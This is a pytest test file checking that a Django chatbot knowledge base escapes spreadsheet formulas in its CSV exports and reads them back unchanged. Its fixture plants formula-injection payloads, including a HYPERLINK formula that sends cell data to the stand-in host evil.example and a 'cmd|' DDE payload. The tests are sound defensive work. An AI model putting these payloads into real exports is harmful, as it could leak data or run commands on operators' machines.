"""CSV exports cannot carry a spreadsheet formula: a cell that starts like one is written as text (a leading '),
and importing the export gives back exactly what was exported."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from chatbot.knowledge.models import AlternateQuestion, QAPair
from chatbot.knowledge.resources import FORMULA_STARTS, formula_escape, formula_unescape

pytestmark = pytest.mark.django_db
FIELDS = ("question", "answer_en", "answer_zh", "alternates", "category", "handoff")
# Text is stored stripped (the admin's forms, the import, the review queue's whitespace folding): a stored
# question never starts with a tab or CR, so the round trips use the other starts.
STORABLE_STARTS = tuple(start for start in FORMULA_STARTS if not start.isspace())


def hostile_pairs(starts: tuple[str, ...] = STORABLE_STARTS) -> None:
    """One pair per dangerous start, in every text column an operator or a customer's message can fill."""
    for number, start in enumerate(starts):
        pair = QAPair.objects.create_topic(
            question=f'{start}HYPERLINK("http://evil.example/?"&A1) q{number}',
            answers={"en": f"{start}1+1 answer {number}", "zh": f"{start}2+2 回答 {number}"},
            category=f"{start}cmd|' /C calc'!A0",
        )
        AlternateQuestion.objects.create(pair=pair, text=f"{start}2+3 alternate {number}", source="log")
    QAPair.objects.create_topic(question="'=already quoted question", answers={"en": "'@already quoted answer"})


def snapshot() -> set:
    return {
        (p.question, tuple(sorted(p.answer_texts().items())), p.category, tuple(a.text for a in p.alternates.all()))
        for p in QAPair.objects.prefetch_related("alternates", "translations")
    }


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_exported_cell_starts_like_a_formula(admin_client):
    # given
    hostile_pairs(FORMULA_STARTS)
    # when: the admin's export, as an operator downloads it
    response = admin_client.post(
        "/admin/knowledge/qapair/export/",
        {"format": "0", "resource": "0", **{f"qapairresource_{name}": "on" for name in FIELDS}},
    )
    # then
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = cells(response.content.decode("utf-8"))
    assert len(rows) == QAPair.objects.count()
    for row in rows:
        for column in ("question", "answer_en", "answer_zh", "alternates", "category"):
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
    hostile = [row for row in rows if row["question"].endswith(" q0")]
    assert hostile[0]["question"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_dangerous_start_is_escaped_and_comes_back(start):
    value = f"{start}SUM(A1:A9)"
    assert formula_escape(value) == "'" + value
    assert formula_unescape(formula_escape(value)) == value
    assert formula_unescape(formula_escape("'" + value)) == "'" + value  # a quote the operator wrote stays
    assert formula_escape("plain text") == "plain text" and formula_unescape("'plain") == "'plain"


def test_a_csv_export_imported_again_is_the_same_knowledge_base(tmp_path):
    # given
    hostile_pairs()
    before = snapshot()
    path = tmp_path / "pairs.csv"
    call_command("export_qa", str(path))
    # when
    QAPair.objects.all().delete()
    call_command("import_qa", str(path))
    # then
    assert snapshot() == before


def test_the_admin_import_reads_an_escaped_export_back(admin_client, tmp_path):
    # given
    hostile_pairs()
    before = snapshot()
    path = tmp_path / "pairs.csv"
    call_command("export_qa", str(path))
    QAPair.objects.all().delete()
    # when
    upload = SimpleUploadedFile("pairs.csv", path.read_bytes(), content_type="text/csv")
    preview = admin_client.post(
        "/admin/knowledge/qapair/import/", {"resource": "0", "format": "0", "import_file": upload}
    )
    confirmed = admin_client.post("/admin/knowledge/qapair/process_import/", preview.context["confirm_form"].initial)
    # then
    assert confirmed.status_code == 302
    assert snapshot() == before
